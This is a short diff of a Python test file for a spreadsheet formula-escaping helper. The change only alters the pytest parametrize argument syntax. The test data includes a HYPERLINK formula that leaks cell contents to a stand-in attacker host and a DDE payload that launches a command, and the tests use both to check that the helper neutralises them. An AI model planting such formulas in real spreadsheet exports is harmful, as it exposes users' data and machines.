@@ -10,7 +10,7 @@ from common.spreadsheet_cells import formula_escape_removed, formula_safe_cell
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
-@pytest.mark.parametrize("text, written", [
+@pytest.mark.parametrize(("text", "written"), [
     (HYPERLINK, "'" + HYPERLINK),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"),
